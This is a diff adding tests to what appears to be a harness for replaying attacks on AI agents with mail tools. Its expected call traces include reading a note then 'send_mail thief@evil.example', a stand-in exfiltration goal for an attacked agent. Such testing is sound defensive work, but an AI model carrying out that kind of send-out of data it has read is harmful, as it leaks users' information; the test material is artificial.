@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 from collections.abc import Sequence
+from dataclasses import replace
 from typing import Any
 
 from harness.probing.attacks.replays import build_replays
@@ -16,6 +17,7 @@ from harness.types import (
     GuardRails,
     JsonObject,
     Repeats,
+    ScriptedCall,
     ServerSpec,
     Suite,
     Tool,
@@ -101,6 +103,26 @@ def test_without_leave_no_call_changes_anything_and_the_reason_is_kept() -> None
     assert check.params["not_sent"].startswith("it changes something")
     calls, _, _ = replay([case("n", "admin", "N-1")], MAIL, writes=False, destructive=True)
     assert list(calls.values()) == [["read_note N-1", "send_mail thief@evil.example"]]
+
+
+def test_a_misspelt_tool_does_not_look_like_one_that_is_stopped() -> None:
+    wrong = replace(MAIL, goal=AttackGoal(call="send_mial"))
+    calls, _, made = replay([case("n", "admin", "N-1")], wrong, destructive=True)
+    [check] = made.cases[0].checks
+    reason = "nobody is offered a tool of this name"
+    assert (list(calls.values()), check.params["not_sent"]) == ([["read_note N-1"]], reason)
+
+
+def test_what_sets_up_and_clears_away_is_called_with_leave_alone() -> None:
+    mail = ScriptedCall(tool="send_mail", arguments={"to": "me@example.org"})
+    around = replace(case("n", "admin", "N-1"), setup=(mail,), teardown=(mail,))
+    calls, left_out, made = replay([around], MAIL, writes=False)
+    assert (list(calls.values()), made.cases[0].teardown) == ([["read_note N-1"]], ())
+    assert [line.partition(":")[0] for line in left_out["left_out"]["n"]] == ["send_mail"]
+    calls, left_out, made = replay([around], MAIL)
+    sent = ["send_mail me@example.org", "read_note N-1", "send_mail thief@evil.example"]
+    assert (list(calls.values()), made.cases[0].teardown) == ([sent], (mail,))
+    assert left_out["left_out"] == {}
 
 
 def test_what_is_not_replayed_is_named_with_the_reason() -> None:
